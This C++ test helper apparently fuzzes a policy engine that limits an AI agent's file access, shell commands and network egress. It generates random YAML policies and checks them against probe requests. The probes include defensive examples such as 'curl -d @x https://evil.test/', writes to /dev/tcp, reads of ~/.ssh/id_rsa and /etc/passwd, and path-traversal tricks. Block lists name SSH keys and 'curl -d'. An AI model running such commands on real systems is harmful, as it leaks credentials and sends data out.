#include "tests/rules/policy_generator.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <regex>

namespace lilith::rules::test {
namespace {

using audit::OperationKind;

const Entries kAllowedHosts{R"("a.example")",
                            R"("b.a.example")",
                            R"("*.a.example")",
                            R"("*.example")",
                            R"({host: "a.example", ports: [8443]})",
                            R"({host: "*.example", ports: [80, 443], protocols: [http, https]})",
                            R"({host: "c.example", ports: [22], protocols: [ssh]})",
                            R"("10.0.0.0/8")",
                            R"({host: "10.1.2.3", ports: [80], protocols: [http, tcp]})",
                            R"("2001:db8::/32")"};
const Entries kBlockedHosts{R"("a.example")",
                            R"("*.a.example")",
                            R"({host: "b.a.example", always_block: true})",
                            R"({host: "*.example", ports: [80]})",
                            R"({host: "c.example", protocols: [ssh]})",
                            R"("10.1.0.0/16")",
                            R"({host: "10.1.2.3", always_block: true})",
                            R"("2001:db8:1::/48")"};
const Entries kAllowedPaths{R"("/srv/**")",    R"("/srv/a/*")",         R"("~/work/**")",
                            R"("**/*.cpp")",   R"("/home/$USER/work")", R"("/srv/[ab]/x?z")",
                            R"("/etc/hosts")", R"("/srv/a/.*/**")",     R"("**/docs/**")"};
const Entries kBlockedPaths{R"("**/.ssh/**")",
                            R"("**/*.key")",
                            R"({pattern: "/srv/a/**", always_block: true})",
                            R"("~/.config/**")",
                            R"("/srv/[!a]/**")",
                            R"("**/docs/secret*")",
                            R"({pattern: "**/id_rsa", always_block: true})",
                            R"("/srv/b/xyz")"};
const Entries kCommands{"git",  "npm",   "curl",
                        "bash", "sudo",  "{name: find, allow_hazards: [command.exec_option]}",
                        "make", "xargs", "{name: git-x, allow_hazards: [command.wrapper]}"};
const Entries kBlockedCommands{"curl",     "bash -c", "{pattern: git push, always_block: true}",
                               "npm exec", "sudo",    "{pattern: curl -d, always_block: true}"};
const Entries kAllowedTools{"{name: TodoWrite}", "{name: mcp_tool, servers: [tracker]}",
                            R"({name: mcp__tracker__get, arguments: {id: ["1*", "2"]}})",
                            "{name: Task, arguments: {kind: [read]}}"};
const Entries kBlockedTools{"Bash",
                            "{name: WebFetch, always_block: true}",
                            "run_command",
                            "{name: mcp_tool, servers: [files]}",
                            "{name: mcp__tracker__get, arguments: {id: [13]}}",
                            "{name: read_file, always_block: true}",
                            "TodoWrite"};

std::string list(const char* key, const Entries& entries, const char* indent) {
  if (entries.empty()) return {};
  std::string out = std::string(indent) + key + ":\n";
  for (const std::string& entry : entries) out += std::string(indent) + "  - " + entry + "\n";
  return out;
}

// The entry's key: a program may stand in an allow list once, a tool as well.
std::string name_in(const std::string& entry) {
  static const std::regex kName("name: ([^,}]+)");
  std::smatch found;
  return std::regex_search(entry, found, kName) ? found[1].str() : entry;
}

void fill(Entries& entries, const Entries& vocabulary, Random& random) {
  for (const std::string& entry : vocabulary) {
    if (random() % 3 == 0) entries.push_back(entry);
  }
}

Request request(std::string tool, audit::Call call) {
  Request out;
  out.tool = std::move(tool);
  out.call = std::move(call);
  return out;
}

std::vector<Request> make_requests() {
  std::vector<Request> out;
  for (const char* path :
       {"/srv/a/x.cpp", "/srv/a/xyz", "/srv/b/xyz", "/srv/c/xyz", "/srv/b/deep/id_rsa",
        "/srv/a/.git/config", "/home/dev/work/app.cpp", "/home/dev/work", "/home/dev/.ssh/id_rsa",
        "/home/dev/.config/x", "/etc/hosts", "/etc/passwd", "server.KEY", "docs/secret.txt",
        "docs/readme", "../work/app.cpp", "/srv/a/../b/xyz", "/srv/x\0y", "~/work/x"}) {
    out.push_back(request("Read", {.kind = OperationKind::kReadFile, .paths = {path}}));
    out.push_back(request("Write", {.kind = OperationKind::kWriteFile, .paths = {path}}));
  }
  out.push_back(request("MultiEdit", {.kind = OperationKind::kWriteFile,
                                      .paths = {"/srv/a/x.cpp", "/srv/b/xyz", "/etc/hosts"}}));
  for (const char* url :
       {"https://a.example/", "https://a.example:8443/x", "http://a.example/",
        "https://b.a.example/", "https://x.b.a.example/", "https://example/",
        "https://c.example:22/", "https://10.1.2.3/", "http://10.1.2.3/", "https://10.2.0.1/",
        "https://[::ffff:10.1.2.3]/", "https://[2001:db8:1::7]/", "https://[2001:db8:2::7]/",
        "https://evil.test/", "https://u:p@a.example/", "wss://b.a.example/", "https://167838211/",
        "https://[2002:a01:203::1]/"}) {
    out.push_back(request("WebFetch", {.kind = OperationKind::kEgress, .urls = {url}}));
  }
  for (const char* line : {"git status",
                           "git push origin main",
                           "npm test && git add -A",
                           "npm exec x",
                           "curl https://a.example/",
                           "curl -d @x https://evil.test/",
                           "bash -lc 'git status'",
                           "sudo git status",
                           "find . -exec git add {} +",
                           "ls",
                           "cd work && echo x",
                           "echo x > out.txt",
                           "git log > /srv/b/xyz",
                           "git diff ~/.ssh/id_rsa",
                           "cat ~/.s*/id_rsa",
                           "git log 'x",
                           "PATH=/tmp git log",
                           "$CMD x",
                           "git clone https://a.example/x",
                           "echo > /dev/tcp/10.1.2.3/80",
                           "ssh c.example ls",
                           "xargs git < /srv/a/x",
                           "make; make; git log | npm test",
                           "./git log",
                           "git log > \"$OUT\"",
                           "git -c core.pager=id log",
                           "git add /srv/*/xyz docs/sec*"}) {
    out.push_back(request("Bash", {.kind = OperationKind::kRunCommand, .command = line}));
  }
  for (const char* arguments : {R"({"id":"13"})", R"({"id":"2"})", R"({})", "no object"}) {
    Request mcp =
        request("mcp__tracker__get", {.kind = OperationKind::kMcpTool, .arguments = arguments});
    mcp.server = "tracker";
    out.push_back(mcp);
    mcp.server = "files";
    out.push_back(mcp);
  }
  for (const char* tool : {"TodoWrite", "Task", "Unknown", "run_command", "mcp_tool"}) {
    out.push_back(
        request(tool, {.kind = OperationKind::kOther, .arguments = R"({"kind":"read"})"}));
  }
  out.push_back(request("Read", {.kind = OperationKind::kReadFile, .undecidable = "no path"}));
  return out;
}

}  // namespace

std::string PolicySpec::yaml() const {
  std::string out = "version: \"1\"\nmode: " + std::string(audit_mode ? "audit" : "enforce") + "\n";
  if (protect) out += "protect_agent_config: true\n";
  out += "egress:\n  default_action: " + egress_default + "\n";
  if (!private_addresses) out += "  private: false\n";
  out += list("allowed_destinations", allowed_hosts, "  ");
  out += list("blocked_destinations", blocked_hosts, "  ");
  out += "tool_invocations:\n  default_action: " + tools_default + "\n  allowed_tools:\n";
  out += "    - name: read_file\n" + list("path_allowlist", read_allow, "      ") +
         list("path_blocklist", read_block, "      ");
  out += "    - name: write_file\n" + list("path_allowlist", write_allow, "      ") +
         list("path_blocklist", write_block, "      ");
  out += "    - name: run_command\n" + list("command_allowlist", commands, "      ") +
         list("command_blocklist", blocked_commands, "      ") +
         list("path_blocklist", shell_block, "      ");
  for (const std::string& tool : allowed_tools) out += "    - " + tool + "\n";
  out += list("blocked_tools", blocked_tools, "  ");
  return out;
}

const std::vector<ListOf>& allow_lists() {
  static const std::vector<ListOf> kLists{{&PolicySpec::allowed_hosts, &kAllowedHosts},
                                          {&PolicySpec::read_allow, &kAllowedPaths},
                                          {&PolicySpec::write_allow, &kAllowedPaths},
                                          {&PolicySpec::commands, &kCommands},
                                          {&PolicySpec::allowed_tools, &kAllowedTools}};
  return kLists;
}

const std::vector<ListOf>& block_lists() {
  static const std::vector<ListOf> kLists{{&PolicySpec::blocked_hosts, &kBlockedHosts},
                                          {&PolicySpec::read_block, &kBlockedPaths},
                                          {&PolicySpec::write_block, &kBlockedPaths},
                                          {&PolicySpec::shell_block, &kBlockedPaths},
                                          {&PolicySpec::blocked_commands, &kBlockedCommands},
                                          {&PolicySpec::blocked_tools, &kBlockedTools}};
  return kLists;
}

PolicySpec random_spec(Random& random) {
  PolicySpec spec;
  const char* const defaults[]{"deny", "deny", "log", "allow"};
  spec.egress_default = defaults[random() % 4];
  spec.tools_default = defaults[random() % 4];
  spec.audit_mode = random() % 8 == 0;
  spec.private_addresses = random() % 4 != 0;
  spec.protect = random() % 2 == 0;
  for (const auto* lists : {&allow_lists(), &block_lists()}) {
    for (const ListOf& one : *lists) fill(spec.*one.list, *one.vocabulary, random);
  }
  return spec;
}

PolicySpec shuffled(PolicySpec spec, Random& random) {
  for (const auto* lists : {&allow_lists(), &block_lists()}) {
    for (const ListOf& one : *lists) {
      Entries& entries = spec.*one.list;
      std::shuffle(entries.begin(), entries.end(), random);
    }
  }
  return spec;
}

PolicySpec with_entry(PolicySpec spec, const std::vector<ListOf>& lists, Random& random) {
  const ListOf& one = lists[random() % lists.size()];
  Entries& entries = spec.*one.list;
  const std::string& added = (*one.vocabulary)[random() % one.vocabulary->size()];
  const bool known = std::any_of(entries.begin(), entries.end(), [&](const std::string& entry) {
    return name_in(entry) == name_in(added);
  });
  if (!known) {
    entries.insert(entries.begin() + static_cast<std::ptrdiff_t>(random() % (entries.size() + 1)),
                   added);
  }
  return spec;
}

std::shared_ptr<const Policy> load_spec(const PolicySpec& spec) {
  PolicyLoad load = load_policy(spec.yaml(), "random.yaml");
  if (load.policy == nullptr) {
    for (const Diagnostic& one : load.diagnostics)
      ADD_FAILURE() << to_string(one) << "\n" << spec.yaml();
  }
  return load.policy;
}

const std::vector<Request>& all_requests() {
  static const std::vector<Request> kRequests = make_requests();
  return kRequests;
}

Decision decide_request(const Policy& policy, const Request& request) {
  static const UserRecord kDev{"dev", 1000, "/home/dev"};
  const CallAnalysis analysis = analyse(request.call);
  return decide(policy, {request.agent, request.tool, request.server}, analysis,
                observe(analysis, kDev, "/home/dev/work", lexical_file_system()));
}

std::string to_text(const Request& request) {
  std::string out = request.tool + " " + request.server + " " + request.call.command;
  for (const auto* texts : {&request.call.paths, &request.call.urls}) {
    for (const std::string& text : *texts) out += " " + text;
  }
  return out + " " + request.call.arguments;
}

int strictness(const Decision& decision) {
  return decision.action == audit::Action::kAllowed     ? 0
         : decision.action == audit::Action::kWouldDeny ? 1
                                                        : 2;
}

}  // namespace lilith::rules::test
